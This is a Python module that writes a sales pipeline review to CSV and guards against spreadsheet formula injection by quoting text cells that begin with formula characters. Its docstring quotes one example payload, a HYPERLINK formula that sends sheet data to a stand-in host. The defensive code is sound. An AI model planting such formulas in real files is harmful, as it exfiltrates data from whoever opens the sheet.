"""`ssm pipeline --format csv`: one row per deal for a spreadsheet (RFC 4180: comma-separated,
fields with commas, quotes or line breaks quoted, CRLF line ends, a header row).

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula (and some treat a
leading tab or carriage return the same way), so a plan that names an opportunity
`=HYPERLINK("http://evil.example/?"&A1)` could send the sheet's data away when the file is
opened. Every text cell that begins so is prefixed with `'`, which spreadsheets show as the
text it is. Numbers (value, days in stage) are written as numbers; they come from the plan's
validated numbers, never from text.

No totals row: a spreadsheet adds up the columns itself, and a totals row would be summed
with the rest.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from ssm_rules import display
from ssm_rules.review.deals import Deal, Review

HEADER = ("account", "account_name", "file", "opportunity", "name", "owner", "must_win", "value", "close_date",
          "claimed_stage", "supported_stage", "unsupported", "missing_outcomes", "days_in_stage", "next_step",
          "next_step_due", "next_step_owner", "findings", "worst_rule", "worst_severity", "worst_message")
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: str | None) -> str:
    """Plan text as a cell that no spreadsheet runs: on one line, `'` before a formula's start."""
    if value is None:
        return ""
    text = display.safe(value)
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def number_cell(value: float | None) -> str:
    if value is None:
        return ""
    return str(int(value)) if float(value).is_integer() and abs(value) < 2**53 else repr(float(value))


def _row(deal: Deal) -> list[str]:
    step = deal.next_step
    worst = deal.worst
    return [text_cell(deal.account), text_cell(deal.account_name), text_cell(deal.file), text_cell(deal.opportunity),
            text_cell(deal.name), text_cell(deal.owner), "true" if deal.must_win else "false", number_cell(deal.value),
            deal.close_date or "", deal.claimed_stage, deal.supported_stage or "", "true" if deal.unsupported else "false",
            " ".join(deal.missing_outcomes), number_cell(deal.days_in_stage),
            text_cell(step.action if step else None), (step.due or "") if step else "",
            text_cell(step.owner if step else None), text_cell(" ".join(deal.findings)),
            text_cell(worst.rule if worst else None), worst.severity if worst else "", text_cell(worst.message if worst else None)]


def rows(deals: Iterable[Deal]) -> Iterable[list[str]]:
    yield list(HEADER)
    for deal in deals:
        yield _row(deal)


def render(review: Review, **_options) -> str:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, dialect="excel", lineterminator="\r\n")  # RFC 4180
    writer.writerows(rows(review.deals))
    return buffer.getvalue()
